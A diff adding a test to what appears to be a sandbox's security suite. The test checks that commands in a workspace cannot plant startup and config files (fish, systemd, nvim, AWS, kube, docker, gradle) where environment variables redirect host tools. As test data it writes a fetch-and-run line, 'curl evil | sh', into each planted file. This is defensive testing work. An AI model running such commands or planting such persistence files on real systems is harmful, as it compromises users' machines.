@@ -296,6 +296,30 @@ describe("what a protected name leads to is protected too", () => {
     expect(existsSync(join(home, ".aws/config"))).toBe(false);
   });
 
+  it("the user's startup files cannot be planted where the host's environment moves them ($XDG_CONFIG_HOME, $XDG_DATA_HOME, AWS_CONFIG_FILE, KUBECONFIG, DOCKER_CONFIG, GRADLE_USER_HOME inside the workspace)", async () => {
+    // A dotfiles repository as the workspace, the host's environment pointing its tools into it.
+    const home = join(s.root, "home");
+    mkdirSync(home);
+    const cfg = join(s.ws, "cfg");
+    mkdirSync(join(cfg, "fish"), { recursive: true });
+    writeFileSync(join(cfg, "fish", "config.fish"), "# the host's\n");
+    const env = baseEnv({
+      HOME: home, XDG_CONFIG_HOME: cfg, XDG_DATA_HOME: join(s.ws, "data"), AWS_CONFIG_FILE: join(s.ws, "aws.conf"),
+      KUBECONFIG: `${join(s.ws, "kube-a")}:${join(s.ws, "kube-b")}`, DOCKER_CONFIG: join(s.ws, "docker"), GRADLE_USER_HOME: join(s.ws, "gradle"),
+    });
+    const plants = [
+      "cfg/fish/config.fish", "cfg/fish/conf.d/evil.fish", "cfg/systemd/user/evil.service", "cfg/nvim/init.lua", "cfg/gh/config.yml", "cfg/starship.toml",
+      "data/nvim/site/plugin/evil.lua", "aws.conf", "kube-a", "kube-b", "docker/config.json", "gradle/init.d/evil.gradle",
+    ];
+    const r = await sandboxSh(s.ws, plants.map((p) => `mkdir -p "$(dirname ${p})"; echo 'curl evil | sh' >> ${p}`).join("; ") + "; true", [], { env });
+    expect(r.code).toBe(0);
+    expect(readFileSync(join(cfg, "fish", "config.fish"), "utf8")).toBe("# the host's\n");
+    for (const p of plants.slice(1)) expect(existsSync(join(s.ws, p)), p).toBe(false);
+    // Not every file there: a directory of the workspace that no tool reads stays ordinary.
+    const ok = await sandboxSh(s.ws, `mkdir -p cfg/notes && echo x > cfg/notes/todo && echo kept`, [], { env });
+    expect(ok.stdout).toContain("kept");
+  });
+
   it("a hook in the directory core.hooksPath names, or a program git config names, cannot be written through another hard link", async () => {
     mkdirSync(join(s.ws, ".githooks"));
     mkdirSync(join(s.ws, "src"));
